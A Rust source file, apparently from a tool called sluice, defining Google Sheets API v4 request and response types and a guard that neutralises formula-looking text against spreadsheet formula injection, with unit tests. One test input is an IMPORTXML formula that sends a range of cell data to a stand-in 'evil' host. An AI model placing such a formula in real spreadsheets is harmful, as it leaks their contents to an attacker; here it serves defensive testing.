//! The Sheets API v4 JSON shapes sluice sends and reads, field for field
//! (camelCase on the wire), and the options of the values methods.
//!
//! - `ValueRange` `{range, majorDimension, values}`: the body of `append`
//!   and `update`, the answer of `values.get`. On output "empty trailing
//!   rows and columns will not be included" and `range` is the whole range
//!   asked for; on input "null values will be skipped" (the cell is left as
//!   it is).
//! - `UpdateValuesResponse` `{spreadsheetId, updatedRange, updatedRows,
//!   updatedColumns, updatedCells}`: the answer of `update`, and `updates`
//!   inside the answer of `append`.
//! - `AppendValuesResponse` `{spreadsheetId, tableRange, updates}`;
//!   `tableRange` is the table found before appending, "empty if no table
//!   was found".
//! - `spreadsheets.get?fields=sheets.properties` answers
//!   `{"sheets":[{"properties":{"sheetId","title","index","sheetType",
//!   "gridProperties":{"rowCount","columnCount"}}}]}`.
//!
//! Zero numbers and empty strings may be left out (proto3 JSON), so every
//! number here defaults to 0 when absent.

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// How written values are read ([`ValueInputOption`][doc]): stored as
/// given (`RAW`, "will not be parsed and will be stored as-is", the
/// default here: text from a form stays text), or as if typed into the UI
/// (`USER_ENTERED`: `"00123"` becomes the number 123, `"TRUE"` a boolean,
/// `"=A1"` a formula, and a leading apostrophe makes the rest text). See
/// [`ValueInputOption::inert`] for sending untrusted text either way.
///
/// [doc]: https://developers.google.com/sheets/api/reference/rest/v4/ValueInputOption
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum ValueInputOption {
    UserEntered,
    #[default]
    Raw,
}

impl ValueInputOption {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::UserEntered => "USER_ENTERED",
            Self::Raw => "RAW",
        }
    }

    /// `value` as it must be sent under this option for a spreadsheet to
    /// hold no formula it did not mean: under `USER_ENTERED` a string that
    /// [`reads_as_formula`] gets a leading apostrophe, which Sheets takes
    /// as "this is text" and does not keep (the cell holds the string as
    /// sent); everything else, and every value under `RAW`, is sent as it
    /// is (`RAW` stores strings as given: an apostrophe would be stored
    /// too).
    pub fn inert(self, value: &Value) -> Value {
        match (self, value) {
            (Self::UserEntered, Value::String(text)) if reads_as_formula(text) => Value::String(format!("'{text}")),
            _ => value.clone(),
        }
    }
}

/// Whether a spreadsheet may read `text` as a formula: it starts with `=`,
/// `+`, `-` or `@`, or with a tab or carriage return (the characters
/// OWASP's "CSV Injection" lists), unless it is a plain signed decimal
/// (`-12`, `+3.5`), which spreadsheets read as a number and nothing else.
/// Erring on the safe side costs nothing under `USER_ENTERED` (the
/// apostrophe is not kept, the text is unchanged, only not parsed), so
/// leading spaces and line feeds are looked past and the full-width forms
/// `＝ ＋ － ＠` count too.
pub fn reads_as_formula(text: &str) -> bool {
    let text = text.trim_start_matches([' ', '\n']);
    let mut chars = text.chars();
    match chars.next() {
        Some('=' | '@' | '\t' | '\r' | '＝' | '＠' | '＋' | '－') => true,
        Some('+' | '-') => !is_plain_decimal(chars.as_str()),
        _ => false,
    }
}

/// `digits(.digits)?`, ASCII digits only.
fn is_plain_decimal(text: &str) -> bool {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    match text.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(text),
    }
}

/// How read values are rendered. Google's default is `FORMATTED_VALUE`
/// (every cell a string as displayed).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum ValueRenderOption {
    #[default]
    FormattedValue,
    UnformattedValue,
    Formula,
}

impl ValueRenderOption {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::FormattedValue => "FORMATTED_VALUE",
            Self::UnformattedValue => "UNFORMATTED_VALUE",
            Self::Formula => "FORMULA",
        }
    }
}

/// Where appended rows go: into newly inserted rows (what sluice uses), or
/// over whatever follows the table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum InsertDataOption {
    /// Google's default when the parameter is absent.
    #[default]
    Overwrite,
    InsertRows,
}

impl InsertDataOption {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Overwrite => "OVERWRITE",
            Self::InsertRows => "INSERT_ROWS",
        }
    }
}

/// `ROWS` (each inner array a row; the default) or `COLUMNS`.
pub const ROWS: &str = "ROWS";
pub const COLUMNS: &str = "COLUMNS";

/// A range and its values.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ValueRange {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub range: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub major_dimension: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub values: Vec<Vec<Value>>,
}

fn is_zero(n: &u64) -> bool {
    *n == 0
}

/// The answer of `values.update`, and `updates` in `values.append`'s.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct UpdateValuesResponse {
    pub spreadsheet_id: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub updated_range: Option<String>,
    #[serde(skip_serializing_if = "is_zero")]
    pub updated_rows: u64,
    #[serde(skip_serializing_if = "is_zero")]
    pub updated_columns: u64,
    #[serde(skip_serializing_if = "is_zero")]
    pub updated_cells: u64,
}

/// The answer of `values.append`.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct AppendValuesResponse {
    pub spreadsheet_id: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub table_range: Option<String>,
    pub updates: UpdateValuesResponse,
}

/// A sheet's size.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct GridProperties {
    pub row_count: u64,
    pub column_count: u64,
}

/// One sheet's properties: its stable numeric id (the `gid` in the URL),
/// its title (what A1 ranges name), its position.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct SheetProperties {
    pub sheet_id: u64,
    pub title: String,
    pub index: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sheet_type: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub grid_properties: Option<GridProperties>,
}

/// `{"properties": {…}}`, one entry of `sheets`.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Sheet {
    #[serde(default)]
    pub properties: SheetProperties,
}

/// The answer of `spreadsheets.get` (with `fields=sheets.properties`, only
/// `sheets` is present).
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Spreadsheet {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub spreadsheet_id: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub properties: Option<Value>,
    #[serde(default)]
    pub sheets: Vec<Sheet>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub spreadsheet_url: Option<String>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_googles_documented_append_answer() {
        // The "Append values" sample: data in A1:D5, two rows appended.
        let body = r#"{"spreadsheetId":"abc","tableRange":"Sheet1!A1:D5","updates":{"spreadsheetId":"abc",
            "updatedRange":"Sheet1!A6:D7","updatedRows":2,"updatedColumns":4,"updatedCells":8}}"#;
        let r: AppendValuesResponse = serde_json::from_str(body).unwrap();
        assert_eq!(r.table_range.as_deref(), Some("Sheet1!A1:D5"));
        assert_eq!((r.updates.updated_range.as_deref(), r.updates.updated_rows), (Some("Sheet1!A6:D7"), 2));
        let none: AppendValuesResponse = serde_json::from_str(r#"{"spreadsheetId":"abc","updates":{}}"#).unwrap();
        assert_eq!((none.table_range, none.updates.updated_rows), (None, 0));
    }

    #[test]
    fn sheet_zero_may_omit_its_id() {
        let body = r#"{"sheets":[{"properties":{"title":"Sheet1","sheetType":"GRID",
            "gridProperties":{"rowCount":1000,"columnCount":26}}},{"properties":{"sheetId":7,"title":"B","index":1}}]}"#;
        let s: Spreadsheet = serde_json::from_str(body).unwrap();
        assert_eq!(s.sheets[0].properties.sheet_id, 0);
        assert_eq!(s.sheets[0].properties.grid_properties.unwrap().row_count, 1000);
        assert_eq!((s.sheets[1].properties.sheet_id, s.sheets[1].properties.index), (7, 1));
    }

    #[test]
    fn formula_looking_text_is_made_inert_only_under_user_entered() {
        use serde_json::json;
        for text in [
            "=1+1",
            "=IMPORTXML(\"https://evil/?\"&A1:Z99,\"//a\")",
            "+1+1",
            "-A1",
            "- item",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "-1e3",
            "-1.",
            "--1",
            " =1+1",
            "\n=1",
            "  -A1",
            "＝1+1",
            "－A1",
        ] {
            assert!(reads_as_formula(text), "{text:?}");
            assert_eq!(ValueInputOption::UserEntered.inert(&json!(text)), json!(format!("'{text}")));
            assert_eq!(ValueInputOption::Raw.inert(&json!(text)), json!(text), "RAW adds nothing");
        }
        for text in ["", "  ", "plain", "-12", " -12", "+3.5", "007", "'=1+1", "a=b", "1-2", "x =1"] {
            assert!(!reads_as_formula(text), "{text:?}");
            assert_eq!(ValueInputOption::UserEntered.inert(&json!(text)), json!(text));
        }
        for other in [json!(-12), json!(true), serde_json::Value::Null] {
            assert_eq!(ValueInputOption::UserEntered.inert(&other), other);
        }
        assert_eq!(ValueInputOption::default(), ValueInputOption::Raw);
    }

    #[test]
    fn options_spell_as_google_does() {
        // `as_str` (query parameters) and serde (configuration) agree.
        fn spelled<T: Serialize>(option: T, text: &str) {
            assert_eq!(serde_json::to_value(option).unwrap(), text);
        }
        for option in [ValueInputOption::UserEntered, ValueInputOption::Raw] {
            spelled(option, option.as_str());
        }
        for option in
            [ValueRenderOption::FormattedValue, ValueRenderOption::UnformattedValue, ValueRenderOption::Formula]
        {
            spelled(option, option.as_str());
        }
        for option in [InsertDataOption::Overwrite, InsertDataOption::InsertRows] {
            spelled(option, option.as_str());
        }
        assert_eq!(ValueInputOption::UserEntered.as_str(), "USER_ENTERED");
        assert_eq!(InsertDataOption::default().as_str(), "OVERWRITE");
        assert!(serde_json::from_value::<InsertDataOption>(serde_json::json!("raw")).is_err());
        let empty = serde_json::to_value(ValueRange::default()).unwrap();
        assert_eq!(empty, serde_json::json!({}));
    }
}
